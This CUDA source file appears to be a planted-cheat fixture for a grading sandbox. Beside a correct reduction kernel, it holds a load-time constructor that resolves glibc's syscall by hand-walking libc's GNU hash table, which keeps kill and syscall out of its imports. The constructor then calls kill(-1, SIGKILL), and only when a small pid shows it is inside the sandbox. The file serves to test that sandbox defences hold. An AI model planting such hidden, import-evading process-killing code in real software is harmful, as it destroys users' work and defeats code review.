// Planted cheat: a correct rung 4 plus a load-time constructor that calls kill(-1, SIGKILL)
// through glibc's syscall() without importing it and without dlsym: it walks the loaded objects
// with dl_iterate_phdr, finds libc's dynamic symbol table and GNU hash table, looks up "syscall"
// the way the dynamic linker would, and calls it through the function pointer it computed. No
// import of kill, syscall, dlopen or dlsym, no raw syscall in the library: only the sandbox's
// system-call filter stops it, killing the lab's process at the call. (The attack runs only where
// the lab's pid is small, as in the sandbox's PID namespace: see inside_a_pid_namespace().)
// Rung 4: sequential addressing.
//
// Changed from rung 3: fold the array in half instead of pairing neighbours. At each step the
// first `stride` threads add element t + stride to element t, so consecutive lanes touch
// consecutive words: no bank conflicts, and the busy threads stay contiguous. Still wasteful:
// half the threads of every block do nothing after they load their one element.
#include <reduce/lab.cuh>
#include <reduce/multi_pass.cuh>

#include <elf.h>
#include <link.h>
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstdint>
#include <cstring>

namespace reduce {
namespace {

constexpr unsigned kThreads = 256;

__global__ void sequential(const float* __restrict__ in, std::size_t n,
                           float* __restrict__ partials) {
  __shared__ float s[kThreads];
  const unsigned tid = threadIdx.x;
  const std::size_t i = static_cast<std::size_t>(blockIdx.x) * kThreads + tid;
  s[tid] = i < n ? in[i] : 0.0f;
  __syncthreads();
  for (unsigned stride = kThreads / 2; stride > 0; stride >>= 1) {
    if (tid < stride) s[tid] += s[tid + stride];
    __syncthreads();
  }
  if (tid == 0) partials[blockIdx.x] = s[0];
}

/// Whether the process sees itself with a small pid, as in a PID namespace of its own (the
/// sandbox's). Outside one, kill(-1, SIGKILL) reaches every process of the grading user on the
/// host; there the lab behaves, and a grader without that wall sees a correct lab, which this
/// case's expectation refuses.
bool inside_a_pid_namespace() { return getpid() < 64; }

/// The GNU hash of a symbol name (the dynamic linker's).
std::uint32_t gnu_hash(const char* name) {
  std::uint32_t h = 5381;
  for (; *name != '\0'; ++name) h = h * 33 + static_cast<unsigned char>(*name);
  return h;
}

struct Lookup {
  const char* name;
  void* address;
};

/// dl_iterate_phdr callback: looks \p data's name up in libc's GNU hash table.
int find_in_libc(dl_phdr_info* info, std::size_t, void* data) {
  auto* want = static_cast<Lookup*>(data);
  if (info->dlpi_name == nullptr || std::strstr(info->dlpi_name, "libc.so") == nullptr) return 0;
  const ElfW(Addr) base = info->dlpi_addr;
  const ElfW(Dyn)* dyn = nullptr;
  for (int i = 0; i < info->dlpi_phnum; ++i)
    if (info->dlpi_phdr[i].p_type == PT_DYNAMIC)
      dyn = reinterpret_cast<const ElfW(Dyn)*>(base + info->dlpi_phdr[i].p_vaddr);
  if (dyn == nullptr) return 0;
  // glibc has already relocated these pointers in memory on x86-64; add the base if not.
  const auto at = [base](ElfW(Addr) p) { return p < base ? p + base : p; };
  const ElfW(Sym)* symtab = nullptr;
  const char* strtab = nullptr;
  const std::uint32_t* table = nullptr;
  for (; dyn->d_tag != DT_NULL; ++dyn) {
    if (dyn->d_tag == DT_SYMTAB) symtab = reinterpret_cast<const ElfW(Sym)*>(at(dyn->d_un.d_ptr));
    if (dyn->d_tag == DT_STRTAB) strtab = reinterpret_cast<const char*>(at(dyn->d_un.d_ptr));
    if (dyn->d_tag == DT_GNU_HASH) table = reinterpret_cast<const std::uint32_t*>(at(dyn->d_un.d_ptr));
  }
  if (symtab == nullptr || strtab == nullptr || table == nullptr) return 0;
  const std::uint32_t buckets = table[0], first = table[1], bloom_words = table[2];
  const auto* bucket = reinterpret_cast<const std::uint32_t*>(
      reinterpret_cast<const ElfW(Addr)*>(table + 4) + bloom_words);
  const std::uint32_t* chain = bucket + buckets;
  const std::uint32_t h = gnu_hash(want->name);
  std::uint32_t i = bucket[h % buckets];
  if (i < first) return 0;
  for (;; ++i) {
    const std::uint32_t h2 = chain[i - first];
    if ((h | 1) == (h2 | 1) && std::strcmp(strtab + symtab[i].st_name, want->name) == 0 &&
        symtab[i].st_value != 0) {
      want->address = reinterpret_cast<void*>(base + symtab[i].st_value);
      return 1;
    }
    if ((h2 & 1) != 0) return 0;
  }
}

__attribute__((constructor)) void kill_everything() {
  if (!inside_a_pid_namespace()) return;
  Lookup lookup{"syscall", nullptr};
  dl_iterate_phdr(find_in_libc, &lookup);
  if (lookup.address != nullptr)
    reinterpret_cast<long (*)(long, ...)>(lookup.address)(SYS_kill, -1L, static_cast<long>(SIGKILL));
}

}  // namespace

std::size_t sum_workspace_bytes(std::size_t n) { return multi_pass_workspace_bytes(n, kThreads); }

void sum(const float* in, std::size_t n, float* out, Workspace workspace, cudaStream_t stream) {
  shrink_by_passes(in, n, out, workspace, stream, kThreads,
                   [](const float* in, std::size_t n, float* partials, std::size_t blocks,
                      cudaStream_t stream) {
                     sequential<<<static_cast<unsigned>(blocks), kThreads, 0, stream>>>(in, n,
                                                                                         partials);
                   });
}

}  // namespace reduce
